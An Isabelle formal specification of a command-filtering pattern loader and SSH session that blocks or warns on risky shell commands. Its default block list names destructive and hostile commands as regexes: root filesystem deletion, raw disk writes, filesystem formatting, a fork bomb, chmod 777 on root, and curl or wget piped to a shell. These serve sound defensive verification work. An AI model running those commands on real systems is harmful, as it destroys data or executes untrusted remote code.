theory Spec2Isabelle
  imports Main
begin

section \<open>Regular expressions\<close>

text \<open>
  The pattern loader stores compiled JavaScript \<open>RegExp\<close> objects and only ever calls
  \<open>regex.test(command)\<close> on them, with the flags \<open>''''\<close> or \<open>''i''\<close> (never \<open>g\<close> or \<open>y\<close>, so
  \<open>test\<close> is stateless). A compiled expression is modelled by its source text, its flags
  and its syntax tree over the constructs that the loader's own literals use.
  Strings are lists of 8-bit characters; case folding and the classes \<open>\<backslash>s\<close> and \<open>.\<close>
  are the ASCII part of what the engine does.
\<close>

datatype rx =
    Lit char
  | Dot
  | Space
  | Bol
  | Eol
  | Eps
  | Seq rx rx
  | Alt rx rx
  | Star rx

definition Plus :: "rx \<Rightarrow> rx" where
  "Plus r = Seq r (Star r)"

fun seqs :: "rx list \<Rightarrow> rx" where
  "seqs [] = Eps"
| "seqs [r] = r"
| "seqs (r # rs) = Seq r (seqs rs)"

definition lits :: "string \<Rightarrow> rx" where
  "lits s = seqs (map Lit s)"

text \<open>ASCII upper case: the letters \<open>a\<close> to \<open>z\<close> (codes 97 to 122) lose bit 5, that is 32.\<close>

fun upper_char :: "char \<Rightarrow> char" where
  "upper_char (Char b0 b1 b2 b3 b4 b5 b6 b7) =
     (let n = (of_char (Char b0 b1 b2 b3 b4 b5 b6 b7) :: nat)
      in if 97 \<le> n \<and> n \<le> 122 then Char b0 b1 b2 b3 b4 False b6 b7
         else Char b0 b1 b2 b3 b4 b5 b6 b7)"

definition toUpperCase :: "string \<Rightarrow> string" where
  "toUpperCase s = map upper_char s"

definition char_eq :: "bool \<Rightarrow> char \<Rightarrow> char \<Rightarrow> bool" where
  "char_eq ci c d = (if ci then upper_char c = upper_char d else c = d)"

definition is_space :: "char \<Rightarrow> bool" where
  "is_space c = (let n = (of_char c :: nat) in (9 \<le> n \<and> n \<le> 13) \<or> n = 32)"

definition is_line_terminator :: "char \<Rightarrow> bool" where
  "is_line_terminator c = (let n = (of_char c :: nat) in n = 10 \<or> n = 13)"

text \<open>
  \<open>iter k f s\<close>: the inputs left after zero or more rounds of \<open>f\<close>, each round consuming
  at least one character (the engine rejects empty iterations of a star), at most \<open>k\<close> rounds.
\<close>

fun iter :: "nat \<Rightarrow> (string \<Rightarrow> string list) \<Rightarrow> string \<Rightarrow> string list" where
  "iter 0 f s = [s]"
| "iter (Suc k) f s = s # concat (map (iter k f) (filter (\<lambda>t. length t < length s) (f s)))"

text \<open>
  \<open>rx_run r ci n s\<close>: every remainder of \<open>s\<close> after a match of \<open>r\<close> at the front of \<open>s\<close>,
  where \<open>s\<close> is a suffix of an input of length \<open>n\<close> (so \<open>^\<close> holds iff \<open>length s = n\<close>)
  and \<open>ci\<close> is the ignore-case flag.
\<close>

fun rx_run :: "rx \<Rightarrow> bool \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string list" where
  "rx_run (Lit c) ci n s =
     (case s of [] \<Rightarrow> [] | x # xs \<Rightarrow> if char_eq ci c x then [xs] else [])"
| "rx_run Dot ci n s =
     (case s of [] \<Rightarrow> [] | x # xs \<Rightarrow> if is_line_terminator x then [] else [xs])"
| "rx_run Space ci n s =
     (case s of [] \<Rightarrow> [] | x # xs \<Rightarrow> if is_space x then [xs] else [])"
| "rx_run Bol ci n s = (if length s = n then [s] else [])"
| "rx_run Eol ci n s = (if s = [] then [s] else [])"
| "rx_run Eps ci n s = [s]"
| "rx_run (Seq a b) ci n s = concat (map (rx_run b ci n) (rx_run a ci n s))"
| "rx_run (Alt a b) ci n s = rx_run a ci n s @ rx_run b ci n s"
| "rx_run (Star a) ci n s = iter (length s) (rx_run a ci n) s"

text \<open>
  What the matcher computes, as a relation: \<open>rx_match ci n r s t\<close> holds when \<open>r\<close> matches
  a prefix of \<open>s\<close> and \<open>t\<close> is the rest.
\<close>

inductive rx_match :: "bool \<Rightarrow> nat \<Rightarrow> rx \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" for ci n where
  m_Lit: "char_eq ci c x \<Longrightarrow> rx_match ci n (Lit c) (x # xs) xs"
| m_Dot: "\<not> is_line_terminator x \<Longrightarrow> rx_match ci n Dot (x # xs) xs"
| m_Space: "is_space x \<Longrightarrow> rx_match ci n Space (x # xs) xs"
| m_Bol: "length s = n \<Longrightarrow> rx_match ci n Bol s s"
| m_Eol: "rx_match ci n Eol [] []"
| m_Eps: "rx_match ci n Eps s s"
| m_Seq: "rx_match ci n a s t \<Longrightarrow> rx_match ci n b t u \<Longrightarrow> rx_match ci n (Seq a b) s u"
| m_Alt1: "rx_match ci n a s t \<Longrightarrow> rx_match ci n (Alt a b) s t"
| m_Alt2: "rx_match ci n b s t \<Longrightarrow> rx_match ci n (Alt a b) s t"
| m_Star0: "rx_match ci n (Star a) s s"
| m_Star: "rx_match ci n a s t \<Longrightarrow> rx_match ci n (Star a) t u \<Longrightarrow> rx_match ci n (Star a) s u"

text \<open>An unanchored search: a match may start at any position of the input.\<close>

definition rx_test :: "bool \<Rightarrow> rx \<Rightarrow> string \<Rightarrow> bool" where
  "rx_test ci r s = list_ex (\<lambda>i. rx_run r ci (length s) (drop i s) \<noteq> []) [0 ..< Suc (length s)]"

record regexp =
  source :: string
  flags :: string
  prog :: rx

definition test :: "regexp \<Rightarrow> string \<Rightarrow> bool" where
  "test re s = rx_test (CHR ''i'' \<in> set (flags re)) (prog re) s"

text \<open>
  \<open>new RegExp(pattern, flags)\<close>: the engine's parser is a parameter \<open>parse\<close> of the
  model; \<open>None\<close> is the \<open>SyntaxError\<close> the constructor throws.
\<close>

definition RegExp :: "(string \<Rightarrow> rx option) \<Rightarrow> string \<Rightarrow> string \<Rightarrow> regexp option" where
  "RegExp parse src fl =
     (case parse src of None \<Rightarrow> None
      | Some r \<Rightarrow> Some \<lparr>source = src, flags = fl, prog = r\<rparr>)"

section \<open>The command pattern loader\<close>

text \<open>
  An entry of the configuration document, which is also the \<open>patternConfig\<close> argument of
  \<open>addPattern\<close>. A field that may be absent from the JSON object is an option.
\<close>

record pattern_config =
  cfg_name :: string
  cfg_pattern :: string
  cfg_description :: string
  cfg_severity :: "string option"
  cfg_enabled :: bool
  cfg_examples :: "string list option"

text \<open>A compiled pattern, as \<open>compilePatterns\<close>, \<open>loadDefaults\<close> and \<open>addPattern\<close> build it.\<close>

record pattern =
  name :: string
  regex :: regexp
  description :: string
  severity :: "string option"
  examples :: "string list option"

text \<open>The settings object; \<open>{}\<close> has every field absent, and an absent field is falsy.\<close>

record settings =
  block_dangerous_by_default :: "bool option"
  warn_on_suspicious :: "bool option"
  log_blocked_commands :: "bool option"
  case_sensitive :: "bool option"
  allow_whitelist_override :: "bool option"

definition no_settings :: settings where
  "no_settings = \<lparr>block_dangerous_by_default = None, warn_on_suspicious = None,
     log_blocked_commands = None, case_sensitive = None, allow_whitelist_override = None\<rparr>"

fun truthy :: "bool option \<Rightarrow> bool" where
  "truthy None = False"
| "truthy (Some b) = b"

text \<open>
  The parsed configuration document. Each of the three sections holds the list
  \<open>section.patterns\<close>; \<open>None\<close> stands for a document in which the section or its list is
  missing, where \<open>load\<close> raises a \<open>TypeError\<close> inside its \<open>try\<close> block.
\<close>

record custom_patterns =
  custom_dangerous :: "pattern_config list option"
  custom_suspicious :: "pattern_config list option"
  custom_whitelisted :: "pattern_config list option"

record config =
  dangerous_patterns :: "pattern_config list option"
  suspicious_patterns :: "pattern_config list option"
  whitelisted_patterns :: "pattern_config list option"
  custom :: "custom_patterns option"
  cfg_settings :: "settings option"

text \<open>What \<open>load\<close> finds at \<open>configPath\<close>.\<close>

datatype config_file = NotFound | Unparseable | Parsed config

record loader =
  patterns :: "config option"
  dangerousPatterns :: "pattern list"
  suspiciousPatterns :: "pattern list"
  whitelistedPatterns :: "pattern list"
  settings :: settings

text \<open>The constructor.\<close>

definition new_loader :: loader where
  "new_loader = \<lparr>patterns = None, dangerousPatterns = [], suspiciousPatterns = [],
     whitelistedPatterns = [], settings = no_settings\<rparr>"

text \<open>\<open>const flags = this.settings.case_sensitive ? '' : 'i'\<close>\<close>

definition compile_flags :: "settings \<Rightarrow> string" where
  "compile_flags st = (if truthy (case_sensitive st) then [] else ''i'')"

definition or_empty :: "'a list option \<Rightarrow> 'a list" where
  "or_empty xs = (case xs of None \<Rightarrow> [] | Some ys \<Rightarrow> ys)"

text \<open>
  The body of the loop of \<open>compilePatterns\<close>: a disabled entry is skipped, an entry whose
  expression does not compile is skipped (with a logged warning), any other is appended.
\<close>

fun compile_loop ::
  "(string \<Rightarrow> rx option) \<Rightarrow> settings \<Rightarrow> pattern_config list \<Rightarrow> pattern list \<Rightarrow> pattern list"
where
  "compile_loop parse st [] compiled = compiled"
| "compile_loop parse st (p # ps) compiled =
     (if \<not> cfg_enabled p then compile_loop parse st ps compiled
      else case RegExp parse (cfg_pattern p) (compile_flags st) of
             None \<Rightarrow> compile_loop parse st ps compiled
           | Some re \<Rightarrow>
               compile_loop parse st ps
                 (compiled @ [\<lparr>name = cfg_name p, regex = re, description = cfg_description p,
                    severity = cfg_severity p, examples = Some (or_empty (cfg_examples p))\<rparr>]))"

definition compilePatterns ::
  "(string \<Rightarrow> rx option) \<Rightarrow> loader \<Rightarrow> pattern_config list \<Rightarrow> pattern_config list \<Rightarrow> pattern list"
where
  "compilePatterns parse ld defaultPatterns customPatterns =
     compile_loop parse (settings ld) (defaultPatterns @ customPatterns) []"

subsection \<open>The built-in defaults\<close>

definition bsl :: char where
  "bsl = CHR 0x5C"

text \<open>A regular expression literal \<open>/source/\<close>: no flags.\<close>

definition literal :: "string \<Rightarrow> rx \<Rightarrow> regexp" where
  "literal src r = \<lparr>source = src, flags = [], prog = r\<rparr>"

definition default_pattern :: "string \<Rightarrow> regexp \<Rightarrow> string \<Rightarrow> string \<Rightarrow> pattern" where
  "default_pattern n re d sev =
     \<lparr>name = n, regex = re, description = d, severity = Some sev, examples = None\<rparr>"

text \<open>\<open>/^rm\<backslash>s+-rf\<backslash>s+\<backslash>/$/\<close>\<close>

definition re_delete_root_filesystem :: regexp where
  "re_delete_root_filesystem =
     literal (''^rm'' @ bsl # ''s+-rf'' @ bsl # ''s+'' @ bsl # ''/$'')
       (seqs [Bol, lits ''rm'', Plus Space, lits ''-rf'', Plus Space, Lit (CHR ''/''), Eol])"

text \<open>\<open>/^dd\<backslash>s+if=.*of=\<backslash>/dev\<backslash>/sd/\<close>\<close>

definition re_disk_write_operations :: regexp where
  "re_disk_write_operations =
     literal (''^dd'' @ bsl # ''s+if=.*of='' @ bsl # ''/dev'' @ bsl # ''/sd'')
       (seqs [Bol, lits ''dd'', Plus Space, lits ''if='', Star Dot, lits ''of=/dev/sd''])"

text \<open>\<open>/^mkfs/\<close>\<close>

definition re_format_filesystem :: regexp where
  "re_format_filesystem = literal ''^mkfs'' (seqs [Bol, lits ''mkfs''])"

text \<open>
  \<open>/^:(){ :|:& };:/\<close>: nothing is escaped in the source, so \<open>()\<close> is an empty group,
  \<open>|\<close> separates two alternatives (only the first begins with \<open>^\<close>), and the braces,
  which open no quantifier, stand for themselves.
\<close>

definition re_fork_bomb :: regexp where
  "re_fork_bomb =
     literal ''^:(){ :|:& };:''
       (Alt (seqs [Bol, Lit (CHR '':''), Eps, lits ''{ :'']) (lits '':& };:''))"

text \<open>\<open>/^chmod\<backslash>s+-R\<backslash>s+777\<backslash>s+\<backslash>//\<close>\<close>

definition re_chmod_777_root :: regexp where
  "re_chmod_777_root =
     literal (''^chmod'' @ bsl # ''s+-R'' @ bsl # ''s+777'' @ bsl # ''s+'' @ bsl # ''/'')
       (seqs [Bol, lits ''chmod'', Plus Space, lits ''-R'', Plus Space, lits ''777'', Plus Space,
              Lit (CHR ''/'')])"

text \<open>\<open>/^curl.*\<backslash>|\<backslash>s*sh/\<close>\<close>

definition re_curl_pipe_to_shell :: regexp where
  "re_curl_pipe_to_shell =
     literal (''^curl.*'' @ bsl # ''|'' @ bsl # ''s*sh'')
       (seqs [Bol, lits ''curl'', Star Dot, Lit (CHR ''|''), Star Space, lits ''sh''])"

text \<open>\<open>/^wget.*\<backslash>|\<backslash>s*sh/\<close>\<close>

definition re_wget_pipe_to_shell :: regexp where
  "re_wget_pipe_to_shell =
     literal (''^wget.*'' @ bsl # ''|'' @ bsl # ''s*sh'')
       (seqs [Bol, lits ''wget'', Star Dot, Lit (CHR ''|''), Star Space, lits ''sh''])"

text \<open>\<open>/sudo\<backslash>s+rm/\<close>\<close>

definition re_sudo_with_rm :: regexp where
  "re_sudo_with_rm =
     literal (''sudo'' @ bsl # ''s+rm'') (seqs [lits ''sudo'', Plus Space, lits ''rm''])"

text \<open>\<open>/chmod\<backslash>s+777/\<close>\<close>

definition re_chmod_777 :: regexp where
  "re_chmod_777 =
     literal (''chmod'' @ bsl # ''s+777'') (seqs [lits ''chmod'', Plus Space, lits ''777''])"

text \<open>\<open>/>\<backslash>s*\<backslash>/dev\<backslash>/null\<backslash>s+2>&1/\<close>\<close>

definition re_redirect_to_dev_null :: regexp where
  "re_redirect_to_dev_null =
     literal (''>'' @ bsl # ''s*'' @ bsl # ''/dev'' @ bsl # ''/null'' @ bsl # ''s+2>&1'')
       (seqs [Lit (CHR ''>''), Star Space, lits ''/dev/null'', Plus Space, lits ''2>&1''])"

text \<open>\<open>/base64.*decode/\<close>\<close>

definition re_base64_decode :: regexp where
  "re_base64_decode =
     literal ''base64.*decode'' (seqs [lits ''base64'', Star Dot, lits ''decode''])"

definition default_dangerous :: "pattern list" where
  "default_dangerous =
     [default_pattern ''delete_root_filesystem'' re_delete_root_filesystem
        ''Delete root filesystem'' ''critical'',
      default_pattern ''disk_write_operations'' re_disk_write_operations
        ''Direct disk write operations'' ''critical'',
      default_pattern ''format_filesystem'' re_format_filesystem
        ''Format filesystem commands'' ''critical'',
      default_pattern ''fork_bomb'' re_fork_bomb ''Fork bomb'' ''critical'',
      default_pattern ''chmod_777_root'' re_chmod_777_root
        ''Recursive chmod 777 on root'' ''critical'',
      default_pattern ''curl_pipe_to_shell'' re_curl_pipe_to_shell
        ''Download and execute via curl'' ''high'',
      default_pattern ''wget_pipe_to_shell'' re_wget_pipe_to_shell
        ''Download and execute via wget'' ''high'']"

definition default_suspicious :: "pattern list" where
  "default_suspicious =
     [default_pattern ''sudo_with_rm'' re_sudo_with_rm ''Using sudo with rm'' ''medium'',
      default_pattern ''chmod_777'' re_chmod_777 ''World-writable permissions'' ''medium'',
      default_pattern ''redirect_to_dev_null'' re_redirect_to_dev_null
        ''Hiding command output'' ''low'',
      default_pattern ''base64_decode'' re_base64_decode ''Base64 decoding'' ''low'']"

definition default_settings :: settings where
  "default_settings = \<lparr>block_dangerous_by_default = Some True, warn_on_suspicious = Some True,
     log_blocked_commands = Some True, case_sensitive = Some False,
     allow_whitelist_override = Some True\<rparr>"

definition loadDefaults :: "loader \<Rightarrow> loader" where
  "loadDefaults ld = ld\<lparr>dangerousPatterns := default_dangerous,
     suspiciousPatterns := default_suspicious, whitelistedPatterns := [],
     settings := default_settings\<rparr>"

subsection \<open>Loading\<close>

definition custom_list ::
  "config \<Rightarrow> (custom_patterns \<Rightarrow> pattern_config list option) \<Rightarrow> pattern_config list" where
  "custom_list doc sel = (case custom doc of None \<Rightarrow> [] | Some c \<Rightarrow> or_empty (sel c))"

text \<open>
  \<open>load\<close>. The three collections are compiled in turn, each assignment taking effect at
  once, and \<open>this.settings\<close> is assigned after them. Whatever is thrown inside the
  \<open>try\<close> block ends in \<open>loadDefaults\<close>.
\<close>

definition load :: "(string \<Rightarrow> rx option) \<Rightarrow> config_file \<Rightarrow> loader \<Rightarrow> loader" where
  "load parse file ld =
     (case file of
        NotFound \<Rightarrow> loadDefaults ld
      | Unparseable \<Rightarrow> loadDefaults ld
      | Parsed doc \<Rightarrow>
          (let ld0 = ld\<lparr>patterns := Some doc\<rparr> in
           case dangerous_patterns doc of
             None \<Rightarrow> loadDefaults ld0
           | Some dp \<Rightarrow>
               (let ld1 = ld0\<lparr>dangerousPatterns :=
                            compilePatterns parse ld0 dp (custom_list doc custom_dangerous)\<rparr> in
                case suspicious_patterns doc of
                  None \<Rightarrow> loadDefaults ld1
                | Some sp \<Rightarrow>
                    (let ld2 = ld1\<lparr>suspiciousPatterns :=
                                 compilePatterns parse ld1 sp (custom_list doc custom_suspicious)\<rparr> in
                     case whitelisted_patterns doc of
                       None \<Rightarrow> loadDefaults ld2
                     | Some wp \<Rightarrow>
                         (let ld3 = ld2\<lparr>whitelistedPatterns :=
                                      compilePatterns parse ld2 wp
                                        (custom_list doc custom_whitelisted)\<rparr>
                          in ld3\<lparr>settings :=
                                   (case cfg_settings doc of None \<Rightarrow> no_settings
                                    | Some st \<Rightarrow> st)\<rparr>)))))"

subsection \<open>Match queries\<close>

definition isWhitelisted :: "loader \<Rightarrow> string \<Rightarrow> bool" where
  "isWhitelisted ld command =
     (if \<not> truthy (allow_whitelist_override (settings ld)) then False
      else list_ex (\<lambda>p. test (regex p) command) (whitelistedPatterns ld))"

text \<open>The result objects \<open>{ dangerous, matches }\<close> and \<open>{ suspicious, matches }\<close>.\<close>

record match_result =
  hit :: bool
  matches :: "pattern list"

text \<open>The loop \<open>for (const pattern of ps) if (pattern.regex.test(command)) matches.push(pattern)\<close>.\<close>

fun scan :: "pattern list \<Rightarrow> string \<Rightarrow> pattern list \<Rightarrow> pattern list" where
  "scan [] command acc = acc"
| "scan (p # ps) command acc =
     (if test (regex p) command then scan ps command (acc @ [p]) else scan ps command acc)"

definition isDangerous :: "loader \<Rightarrow> string \<Rightarrow> match_result" where
  "isDangerous ld command =
     (if isWhitelisted ld command then \<lparr>hit = False, matches = []\<rparr>
      else let ms = scan (dangerousPatterns ld) command []
           in \<lparr>hit = (length ms > 0), matches = ms\<rparr>)"

definition isSuspicious :: "loader \<Rightarrow> string \<Rightarrow> match_result" where
  "isSuspicious ld command =
     (let ms = scan (suspiciousPatterns ld) command []
      in \<lparr>hit = (length ms > 0), matches = ms\<rparr>)"

subsection \<open>Adding a pattern at run time\<close>

text \<open>
  \<open>addPattern\<close> returns \<open>true\<close> or \<open>false\<close>; the expression is compiled before the
  \<open>switch\<close> on the type, and both a \<open>SyntaxError\<close> and the \<open>Invalid pattern type\<close> error
  are caught. An absent or empty severity becomes \<open>medium\<close>.
\<close>

definition addPattern ::
  "(string \<Rightarrow> rx option) \<Rightarrow> string \<Rightarrow> pattern_config \<Rightarrow> loader \<Rightarrow> bool \<times> loader" where
  "addPattern parse type patternConfig ld =
     (case RegExp parse (cfg_pattern patternConfig) (compile_flags (settings ld)) of
        None \<Rightarrow> (False, ld)
      | Some re \<Rightarrow>
          (let compiledPattern =
                 \<lparr>name = cfg_name patternConfig, regex = re,
                  description = cfg_description patternConfig,
                  severity = Some (case cfg_severity patternConfig of
                                     None \<Rightarrow> ''medium''
                                   | Some sv \<Rightarrow> if sv = [] then ''medium'' else sv),
                  examples = Some (or_empty (cfg_examples patternConfig))\<rparr>
           in if type = ''dangerous'' then
                (True, ld\<lparr>dangerousPatterns := dangerousPatterns ld @ [compiledPattern]\<rparr>)
              else if type = ''suspicious'' then
                (True, ld\<lparr>suspiciousPatterns := suspiciousPatterns ld @ [compiledPattern]\<rparr>)
              else if type = ''whitelisted'' then
                (True, ld\<lparr>whitelistedPatterns := whitelistedPatterns ld @ [compiledPattern]\<rparr>)
              else (False, ld)))"

section \<open>The interactive session\<close>

subsection \<open>Command analysis\<close>

text \<open>
  What a JavaScript exception carries: an \<open>Error\<close> with its message, or the \<open>TypeError\<close>
  of calling \<open>toUpperCase\<close> on an absent severity.
\<close>

datatype error = Error string | TypeError

record matched =
  m_name :: string
  m_description :: string
  m_severity :: "string option"

record analysis =
  command :: string
  safe :: bool
  dangerous :: bool
  suspicious :: bool
  whitelisted :: bool
  warnings :: "string list"
  blockedReason :: "string option"
  matchedDangerous :: "matched list"
  matchedSuspicious :: "matched list"

record pattern_matches =
  pm_dangerous :: match_result
  pm_suspicious :: match_result
  pm_whitelisted :: bool

definition getPatternMatches :: "loader \<Rightarrow> string \<Rightarrow> pattern_matches" where
  "getPatternMatches ld c =
     \<lparr>pm_dangerous = isDangerous ld c, pm_suspicious = isSuspicious ld c,
      pm_whitelisted = isWhitelisted ld c\<rparr>"

text \<open>The warning line \<open>[${pattern.severity.toUpperCase()}] ${pattern.description}\<close>.\<close>

definition warning_line :: "string \<Rightarrow> string \<Rightarrow> string" where
  "warning_line sv d = ''['' @ toUpperCase sv @ ''] '' @ d"

text \<open>
  The body shared by the two \<open>forEach\<close> loops of \<open>analyzeCommand\<close>: push a warning line,
  then push the pattern's summary.
\<close>

fun push_matches ::
  "pattern list \<Rightarrow> string list \<times> matched list \<Rightarrow> error + (string list \<times> matched list)" where
  "push_matches [] acc = Inr acc"
| "push_matches (p # ps) (ws, ms) =
     (case severity p of
        None \<Rightarrow> Inl TypeError
      | Some sv \<Rightarrow>
          push_matches ps
            (ws @ [warning_line sv (description p)],
             ms @ [\<lparr>m_name = name p, m_description = description p, m_severity = severity p\<rparr>]))"

definition check_dangerous :: "pattern_matches \<Rightarrow> analysis \<Rightarrow> error + analysis" where
  "check_dangerous m a =
     (if hit (pm_dangerous m) \<and> \<not> pm_whitelisted m then
        (case push_matches (matches (pm_dangerous m)) (warnings a, matchedDangerous a) of
           Inl e \<Rightarrow> Inl e
         | Inr (ws, ms) \<Rightarrow>
             Inr (a\<lparr>dangerous := True, safe := False,
                    blockedReason := Some ''Potentially destructive command detected'',
                    warnings := ws, matchedDangerous := ms\<rparr>))
      else Inr a)"

definition check_suspicious :: "pattern_matches \<Rightarrow> analysis \<Rightarrow> error + analysis" where
  "check_suspicious m a =
     (if hit (pm_suspicious m) then
        (case push_matches (matches (pm_suspicious m)) (warnings a, matchedSuspicious a) of
           Inl e \<Rightarrow> Inl e
         | Inr (ws, ms) \<Rightarrow> Inr (a\<lparr>suspicious := True, warnings := ws, matchedSuspicious := ms\<rparr>))
      else Inr a)"

definition analyzeCommand :: "loader \<Rightarrow> string \<Rightarrow> error + analysis" where
  "analyzeCommand ld c =
     (let m = getPatternMatches ld c;
          a = \<lparr>command = c, safe = True, dangerous = False, suspicious = False,
               whitelisted = pm_whitelisted m, warnings = [], blockedReason = None,
               matchedDangerous = [], matchedSuspicious = []\<rparr>
      in case check_dangerous m a of
           Inl e \<Rightarrow> Inl e
         | Inr a1 \<Rightarrow> check_suspicious m a1)"

subsection \<open>Session state\<close>

datatype stream = Stdout | Stderr

record chunk =
  c_type :: stream
  c_data :: string
  c_timestamp :: int

record history_entry =
  h_command :: string
  h_timestamp :: int
  h_analysis :: analysis
  executed :: bool

record result =
  r_command :: string
  r_output :: string
  duration :: int
  r_analysis :: analysis

datatype event =
    Connected
  | Output string
  | Stream string
  | Blocked string analysis
  | Warning string analysis
  | Executed result
  | Close int

text \<open>
  The session object, with the two effects of its methods made part of the state:
  \<open>stdin\<close> is what has been written to the transport's input, \<open>emitted\<close> the events
  emitted, both in order.
\<close>

record session =
  connected :: bool
  commandHistory :: "history_entry list"
  outputBuffer :: "chunk list"
  blockDangerousCommands :: bool
  requireConfirmation :: bool
  stdin :: "string list"
  emitted :: "event list"

definition emit :: "event \<Rightarrow> session \<Rightarrow> session" where
  "emit e s = s\<lparr>emitted := emitted s @ [e]\<rparr>"

record options =
  bypassSafety :: bool
  streaming :: bool
  timeout :: "int option"

text \<open>
  The variables of the closure that \<open>executeCommand\<close> creates for one command.
  A timer is the time at which it is due while it is pending, and \<open>None\<close> when it has
  fired, has been cleared or was never set. \<open>listening\<close>: \<open>outputHandler\<close> is registered
  for the \<open>output\<close> event. \<open>resolved\<close>: the results passed to \<open>resolve\<close>.
\<close>

record exec =
  x_command :: string
  x_analysis :: analysis
  x_streaming :: bool
  x_output :: string
  startTime :: int
  commandCompleted :: bool
  idleTimer :: "int option"
  maxTimeout :: "int option"
  listening :: bool
  resolved :: "result list"

text \<open>
  \<open>options.timeout || 30000\<close>: an absent or zero timeout is 30 seconds. A timeout is a
  whole number of milliseconds that the timer accepts as it is.
\<close>

definition ceiling_of :: "options \<Rightarrow> int" where
  "ceiling_of opts = (case timeout opts of None \<Rightarrow> 30000 | Some t \<Rightarrow> if t = 0 then 30000 else t)"

definition reason_text :: "string option \<Rightarrow> string" where
  "reason_text r = (case r of None \<Rightarrow> ''null'' | Some t \<Rightarrow> t)"

text \<open>
  \<open>executeCommand\<close> up to the point where the promise is pending: either it throws, or
  the command is written to the transport and the closure is armed. \<open>now\<close> is the clock.
\<close>

definition executeCommand ::
  "loader \<Rightarrow> int \<Rightarrow> string \<Rightarrow> options \<Rightarrow> session \<Rightarrow> (error + exec) \<times> session" where
  "executeCommand ld now c opts s =
     (if \<not> connected s then (Inl (Error ''SSH session not connected''), s)
      else case analyzeCommand ld c of
        Inl e \<Rightarrow> (Inl e, s)
      | Inr a \<Rightarrow>
          if dangerous a \<and> blockDangerousCommands s \<and> \<not> bypassSafety opts then
            (Inl (Error (''Command blocked: '' @ reason_text (blockedReason a))),
             emit (Blocked c a) s)
          else
            (let s1 = (if suspicious a then emit (Warning c a) s else s);
                 s2 = s1\<lparr>commandHistory := commandHistory s1 @
                        [\<lparr>h_command = c, h_timestamp = now, h_analysis = a, executed = True\<rparr>]\<rparr>;
                 s3 = s2\<lparr>stdin := stdin s2 @ [c @ [CHR 0x0A]]\<rparr>
             in (Inr \<lparr>x_command = c, x_analysis = a, x_streaming = streaming opts,
                      x_output = [], startTime = now, commandCompleted = False,
                      idleTimer = None, maxTimeout = Some (now + ceiling_of opts),
                      listening = True, resolved = []\<rparr>, s3)))"

subsection \<open>Completion of a command\<close>

definition completeCommand :: "int \<Rightarrow> exec \<times> session \<Rightarrow> exec \<times> session" where
  "completeCommand now w =
     (case w of (x, s) \<Rightarrow>
        if commandCompleted x then (x, s)
        else
          (let r = \<lparr>r_command = x_command x, r_output = x_output x,
                    duration = now - startTime x, r_analysis = x_analysis x\<rparr>
           in (x\<lparr>commandCompleted := True, idleTimer := None, listening := False,
                 resolved := resolved x @ [r]\<rparr>,
               emit (Executed r) s)))"

text \<open>\<open>outputHandler\<close>: the pending idle timer is cleared and a new one is set, 500 ms ahead.\<close>

definition outputHandler :: "int \<Rightarrow> string \<Rightarrow> exec \<times> session \<Rightarrow> exec \<times> session" where
  "outputHandler now d w =
     (case w of (x, s) \<Rightarrow>
        (x\<lparr>x_output := x_output x @ d, idleTimer := Some (now + 500)\<rparr>,
         if x_streaming x then emit (Stream d) s else s))"

text \<open>
  What can happen while the promise is pending: the transport delivers a chunk on its
  standard output (the session's own handler stores it and emits \<open>output\<close>, which calls
  \<open>outputHandler\<close> while that is registered) or on its standard error (stored, not
  emitted), the transport process exits, the idle timer fires, or the ceiling timer
  fires. A timer that is not pending cannot fire.
\<close>

datatype occurrence = Data string | ErrData string | Exit int | IdleFires | MaxFires

fun step :: "int \<Rightarrow> occurrence \<Rightarrow> exec \<times> session \<Rightarrow> exec \<times> session" where
  "step now (Data d) (x, s) =
     (let s1 = emit (Output d)
                 (s\<lparr>outputBuffer := outputBuffer s @
                      [\<lparr>c_type = Stdout, c_data = d, c_timestamp = now\<rparr>]\<rparr>)
      in if listening x then outputHandler now d (x, s1) else (x, s1))"
| "step now (ErrData d) (x, s) =
     (x, s\<lparr>outputBuffer := outputBuffer s @
              [\<lparr>c_type = Stderr, c_data = d, c_timestamp = now\<rparr>]\<rparr>)"
| "step now (Exit code) (x, s) = (x, emit (Close code) (s\<lparr>connected := False\<rparr>))"
| "step now IdleFires (x, s) =
     (case idleTimer x of
        None \<Rightarrow> (x, s)
      | Some due \<Rightarrow>
          (let x1 = x\<lparr>idleTimer := None\<rparr>
           in if \<not> commandCompleted x1 then completeCommand now (x1, s) else (x1, s)))"
| "step now MaxFires (x, s) =
     (case maxTimeout x of
        None \<Rightarrow> (x, s)
      | Some due \<Rightarrow>
          (let x1 = x\<lparr>maxTimeout := None\<rparr>
           in if \<not> commandCompleted x1 then completeCommand now (x1, s) else (x1, s)))"

fun run :: "(int \<times> occurrence) list \<Rightarrow> exec \<times> session \<Rightarrow> exec \<times> session" where
  "run [] w = w"
| "run ((t, ev) # evs) w = run evs (step t ev w)"

text \<open>
  The clock: the pending timer that is due first fires at the time it is due.
  \<open>quiesce\<close> lets the timers run out when no more output arrives; completing a
  command sets no timer, so two firings are all there can be.
\<close>

definition fire_next :: "exec \<times> session \<Rightarrow> exec \<times> session" where
  "fire_next w =
     (case (idleTimer (fst w), maxTimeout (fst w)) of
        (None, None) \<Rightarrow> w
      | (Some i, None) \<Rightarrow> step i IdleFires w
      | (None, Some m) \<Rightarrow> step m MaxFires w
      | (Some i, Some m) \<Rightarrow> if i \<le> m then step i IdleFires w else step m MaxFires w)"

definition quiesce :: "exec \<times> session \<Rightarrow> exec \<times> session" where
  "quiesce w = fire_next (fire_next w)"

subsection \<open>Reading the history and the output buffer\<close>

text \<open>\<open>Array.prototype.slice(start)\<close> for an integer \<open>start\<close>.\<close>

definition slice :: "int \<Rightarrow> 'a list \<Rightarrow> 'a list" where
  "slice start xs =
     (let len = int (length xs);
          k = (if start < 0 then max (len + start) 0 else min start len)
      in drop (nat k) xs)"

definition getHistory :: "session \<Rightarrow> int option \<Rightarrow> history_entry list" where
  "getHistory s limit = slice (- (case limit of None \<Rightarrow> 50 | Some l \<Rightarrow> l)) (commandHistory s)"

definition getOutput :: "session \<Rightarrow> int option \<Rightarrow> chunk list" where
  "getOutput s limit = slice (- (case limit of None \<Rightarrow> 100 | Some l \<Rightarrow> l)) (outputBuffer s)"

text \<open>\<open>getStatus().blockedCommands\<close>: the history entries of dangerous commands not executed.\<close>

definition blockedCommands :: "session \<Rightarrow> nat" where
  "blockedCommands s =
